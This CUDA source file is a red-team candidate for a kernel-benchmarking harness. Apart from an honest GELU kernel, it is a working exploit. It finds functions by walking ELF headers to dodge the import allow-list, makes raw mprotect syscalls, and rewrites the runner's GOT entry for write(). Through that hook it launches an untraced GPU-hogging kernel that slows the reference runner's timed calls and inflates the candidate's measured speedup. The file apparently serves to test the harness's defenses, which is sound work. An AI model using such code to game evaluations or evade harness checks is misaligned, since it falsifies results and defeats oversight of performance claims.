/* EXPLOIT: slowing the reference instead of speeding up: the runner's write(2) hooked so that after every reply a GPU hog is queued in this runner's context, untraced and uncharged, time-slicing against the reference runner's timed calls */
/* red-team candidate for KernelFleet's CUDA harness (/tmp/rt_cuda); never a real kernel. */
#include <cuda_runtime.h>
#include <cuda_bf16.h>
#include <elf.h>
#include <stdint.h>
#include <string.h>

#include "kf_candidate.h"
/* ---- an honest f32 tanh-GELU, one bf16 element per thread, grid-stride:
 * the same kernel as gelu_plain.cu (the control), so a speedup beyond that
 * control's is what the trick bought. */
__device__ __forceinline__ float gelu_f(float v) {
  const float k0 = 0.7978845608028654f;
  return 0.5f * v * (1.0f + tanhf(k0 * (v + 0.044715f * v * v * v)));
}
__global__ void gelu_k(const __nv_bfloat16 *__restrict__ x,
                       __nv_bfloat16 *__restrict__ y, int64_t n) {
  for (int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += (int64_t)gridDim.x * blockDim.x)
    y[i] = __float2bfloat16(gelu_f(__bfloat162float(x[i])));
}
static int gelu_args_ok(const kf_args *a, int64_t *n) {
  if (a->abi_version != KF_ABI_VERSION || a->n_inputs != 1 ||
      a->n_outputs != 1 || a->n_params != 2)
    return 0;
  *n = a->params[0] * a->params[1];
  return *n > 0;
}
static unsigned gelu_blocks(int64_t n) {
  int64_t want = (n + 255) / 256;
  return (unsigned)(want < 65536 ? want : 65536);
}
/* ---- functions found at run time, not imported (the link check sees only
 * the allow-listed imports): the ELF image holding `inside`, found by
 * walking back page by page to its header, then its dynamic symbols. */
static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}
static uintptr_t elf_base(const void *inside) {
  uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
  for (int i = 0; i < (1 << 17); i++, p -= 4096)
    if (!memcmp((const void *)p, ELFMAG, SELFMAG)) return p;
  return 0;
}
/* load bias of the image whose header is at p */
static uintptr_t elf_bias(uintptr_t p) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_LOAD && ph[i].p_offset == 0)
      return p - (ph[i].p_vaddr & ~(uintptr_t)4095);
  return p;
}
static const Elf64_Dyn *elf_dyn(uintptr_t p, uintptr_t bias) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_DYNAMIC)
      return (const Elf64_Dyn *)(bias + ph[i].p_vaddr);
  return 0;
}
static void *resolve(const void *inside, const char *name) {
  uintptr_t p = elf_base(inside);
  if (!p) return 0;
  uintptr_t bias = elf_bias(p);
  const Elf64_Dyn *dyn = elf_dyn(p, bias);
  if (!dyn) return 0;
  const Elf64_Sym *sym = 0;
  const char *str = 0;
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    if (v < bias) v += bias; /* not relocated in place on some loaders */
    if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym *)v;
    if (dyn->d_tag == DT_STRTAB) str = (const char *)v;
  }
  if (!sym || !str) return 0;
  for (const Elf64_Sym *s = sym + 1; (const char *)s < str; s++)
    if (s->st_name && s->st_value && s->st_shndx != SHN_UNDEF &&
        same(str + s->st_name, name))
      return (void *)(bias + s->st_value);
  return 0;
}
typedef cudaError_t (*launch_fn_t)(const void *, dim3, dim3, void **, size_t,
                                   cudaStream_t);
/* a function of libcudart, found from the one import we may have */
static void *cudart(const char *name) {
  return resolve((const void *)(launch_fn_t)&cudaLaunchKernel, name);
}
/* raw system calls: libc's wrappers are not importable */
static long sys3(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(n), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return r;
}
/* ---- the runner's own GOT: kf_launch is called from kf-harness-cuda
 * (runner.c run_step), so its return address lies in the runner's
 * executable; its relocations name the slot through which the runner
 * calls `name` (a lazily or eagerly bound PLT slot, or a GLOB_DAT one). */
static void **got_slot(const void *inside, const char *name) {
  uintptr_t p = elf_base(inside);
  if (!p) return 0;
  uintptr_t bias = elf_bias(p);
  const Elf64_Dyn *dyn = elf_dyn(p, bias);
  if (!dyn) return 0;
  const Elf64_Sym *sym = 0;
  const char *str = 0;
  const Elf64_Rela *rel[2] = {0, 0};
  uint64_t relsz[2] = {0, 0};
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    switch (dyn->d_tag) {
    case DT_SYMTAB: sym = (const Elf64_Sym *)(v < bias ? v + bias : v); break;
    case DT_STRTAB: str = (const char *)(v < bias ? v + bias : v); break;
    case DT_JMPREL: rel[0] = (const Elf64_Rela *)(v < bias ? v + bias : v); break;
    case DT_PLTRELSZ: relsz[0] = dyn->d_un.d_val; break;
    case DT_RELA: rel[1] = (const Elf64_Rela *)(v < bias ? v + bias : v); break;
    case DT_RELASZ: relsz[1] = dyn->d_un.d_val; break;
    default: break;
    }
  }
  if (!sym || !str) return 0;
  for (int k = 0; k < 2; k++) {
    if (!rel[k]) continue;
    for (uint64_t i = 0; i < relsz[k] / sizeof(Elf64_Rela); i++) {
      uint32_t s = (uint32_t)ELF64_R_SYM(rel[k][i].r_info);
      uint32_t t = (uint32_t)ELF64_R_TYPE(rel[k][i].r_info);
      if (!s || (t != R_X86_64_JUMP_SLOT && t != R_X86_64_GLOB_DAT)) continue;
      if (same(str + sym[s].st_name, name))
        return (void **)(bias + rel[k][i].r_offset);
    }
  }
  return 0;
}
/* points the runner's slot for `name` at fn (the page made writable with
 * a raw mprotect first, in case the runner was linked with -z now) */
static int hook_got(const void *inside, const char *name, void *fn) {
  void **slot = got_slot(inside, name);
  if (!slot) return -1;
  if (*slot == fn) return 0;
  uintptr_t pg = (uintptr_t)slot & ~(uintptr_t)4095;
  if (sys3(10 /* mprotect */, (long)pg, 4096, 3 /* R|W */) != 0) return -2;
  *slot = fn;
  return 0;
}
/* the reply layout of harness/cuda/proto.h (kf_cuda_reply, 344 bytes) */
typedef struct {
  uint32_t magic, seq;
  int32_t kind, rc;
  uint32_t defenses;
  int32_t sysno, err, cuda_err;
  uint64_t elapsed_ns, event_ns;
  uint32_t n_activity, pad;
  uint64_t l2_bytes, flush_bytes, bad, digest[8];
  char msg[200];
} reply_t;
static_assert(sizeof(reply_t) == 344, "kf_cuda_reply layout");
#define REPLY_MAGIC 0x4b464332u
#define REPLY_DONE 2
#ifndef HOG_US
#define HOG_US 20000 /* GPU time the hog holds after each reply */
#endif
#ifndef HOG_BLOCKS
#define HOG_BLOCKS 528 /* 4 an SM on an H200 */
#endif
/* Spins on the global timer: in this runner's context, so while it runs
 * the other runner's (the reference's) context gets the GPU only in time
 * slices -- its timed calls, its events included, stretch. */
__global__ void hog_k(unsigned long long us) {
  unsigned long long t0, t;
  asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(t0));
  do {
    __nanosleep(1000);
    asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(t));
  } while (t - t0 < us * 1000ull);
}
/* The runner's write(2), replaced: every DONE reply goes out first (the
 * eval process moves on at once, to the reference's call), then the hog is
 * queued -- after this runner's call, its events, its synchronize, with
 * CUPTI tracing already switched off.  The next command to this runner
 * waits for it there, untimed. */
static long hog_write(int fd, const void *buf, size_t n) {
  long w = sys3(1, fd, (long)buf, (long)n);
  if (fd == 1 && n == sizeof(reply_t)) {
    const reply_t *r = (const reply_t *)buf;
    if (r->magic == REPLY_MAGIC && r->kind == REPLY_DONE) {
      hog_k<<<HOG_BLOCKS, 64, 0, 0>>>((unsigned long long)HOG_US);
      cudaGetLastError();
    }
  }
  return w;
}

extern "C" int kf_launch(const kf_args *a) {
  int64_t n;
  if (!gelu_args_ok(a, &n)) return 1;
  /* rc 41/42: mechanism failed (inconclusive), not a defense */
  int h = hook_got(__builtin_return_address(0), "write", (void *)&hog_write);
  if (h) return 40 - h;
  gelu_k<<<gelu_blocks(n), 256, 0, (cudaStream_t)a->stream>>>(
      (const __nv_bfloat16 *)a->inputs[0].data,
      (__nv_bfloat16 *)a->outputs[0].data, n);
  return cudaGetLastError() != cudaSuccess ? 1 : 0;
}
